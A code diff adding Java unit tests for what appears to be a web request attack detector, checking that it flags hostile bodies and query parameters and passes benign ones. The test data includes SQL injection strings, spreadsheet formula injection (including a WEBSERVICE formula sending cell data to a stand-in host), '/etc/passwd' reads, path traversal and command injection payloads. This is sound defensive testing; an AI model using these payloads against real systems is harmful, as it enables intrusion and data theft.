@@ -59,6 +59,70 @@ class CarriersTest {
     }
 
     @Test
+    void readsSequencesOfJsonAndLinesOfProducts() {
+        for (var type : List.of("application/vnd.store+ndjson", "application/vnd.store+x-ndjson")) {
+            assertThat(reason(post(type, "{\"a\":1}\n{\"b\":\"1' or '1'='1\"}\n")))
+                    .isEqualTo("sql-injection");
+            assertThat(reason(post(type, "{\"a\":1}\n{\"b\":\"blue shoes\"}\n")))
+                    .isEmpty();
+        }
+        assertThat(reason(post("application/json-seq", "\u001e{\n\"a\":1}\n\u001e{\"b\":\"1' or '1'='1\"}\n")))
+                .isEqualTo("sql-injection");
+        assertThat(reason(post("application/json-seq", "\u001e{\n\"a\":1}\n\u001e{\"b\":\"blue shoes\"}\n")))
+                .isEmpty();
+    }
+
+    @Test
+    void readsTheValuesOfTables() {
+        for (var row : List.of(
+                "7,=1+cmd|'/C calc'!A0,x",
+                "7,\"=WEBSERVICE(\"\"http://x.example/\"\"&A1)\",x",
+                "7,\"1' or '1'='1\"\r\n8,y,z",
+                "7,\"two\nlines, and \"\"quotes\"\"\",; cat /etc/passwd")) {
+            assertThat(reason(post("text/csv", "id,note,by\r\n" + row + "\r\n")))
+                    .isNotEmpty();
+            assertThat(reason(post("text/csv", ("id,note,by\n" + row).replace(",x", ""))))
+                    .isNotEmpty();
+        }
+        assertThat(reason(post("text/csv", "id;note\n7;=1+cmd|'/C calc'!A0"))).isEqualTo("spreadsheet-formula");
+        assertThat(reason(post("text/tab-separated-values", "id\tnote\n7\t=1+cmd|'/C calc'!A0")))
+                .isEqualTo("spreadsheet-formula");
+        assertThat(reason(post("text/csv", "id,note\n7,=A1*2\n8,\"O'Reilly, \"\"select\"\" books; or more\"\n9,")))
+                .isEmpty();
+        assertThat(reason(post("text/csv", "\"never closed,=1\n\"\""))).isEmpty();
+    }
+
+    @Test
+    void namesTheColumnOfATable() {
+        var deny = (Verdict.Deny)
+                attacks.check(post("text/csv", "id,note\n7,1' or '1'='1").view());
+
+        assertThat(deny.evidence().detail()).contains("`note`");
+    }
+
+    @Test
+    void deniesAStyleSheetOfAnotherHost() {
+        assertThat(reason(post("text/xml", "<?xml-stylesheet type=\"text/xsl\" href=\"http://x.example/a.xsl\"?><a/>")))
+                .isEqualTo("xml-entity");
+        assertThat(reason(post("text/xml", "<?xml-stylesheet type='text/xsl' href='//x.example/a.xsl'?><a/>")))
+                .isEqualTo("xml-entity");
+        assertThat(reason(post("text/xml", "<?xml-stylesheet type=\"text/xsl\" href=\"a.xsl\"?><a/>")))
+                .isEmpty();
+        assertThat(reason(post("text/xml", "<?xml-stylesheet type=\"text/css\" href=\"http://x.example/a.css\"?><a/>")))
+                .isEmpty();
+    }
+
+    @Test
+    void readsParametersByTheirNames() {
+        assertThat(reason(get("/view?img=.env"))).isEqualTo("path-traversal");
+        assertThat(reason(get("/view?img=avatar-7"))).isEmpty();
+        assertThat(reason(get("/run?cmd=cat%20main.cfg"))).isEqualTo("exploit-path");
+        assertThat(reason(get("/run?cmd=sort%20by%20name"))).isEmpty();
+        assertThat(reason(get("/items?q=name%3Bid"))).isEqualTo("command-injection");
+        assertThat(reason(get("/items?fields=name%3Bid"))).isEmpty();
+    }
+
+    @Test
     void looksAtTheKeysInNamesOfParameters() {
         assertThat(reason(get("/orders?where[%27%20or%201%3D1%20--]=x"))).isEqualTo("sql-injection");
         assertThat(reason(get("/orders?a[b][..%2F..%2Fetc%2Fpasswd]=x"))).isEqualTo("path-traversal");
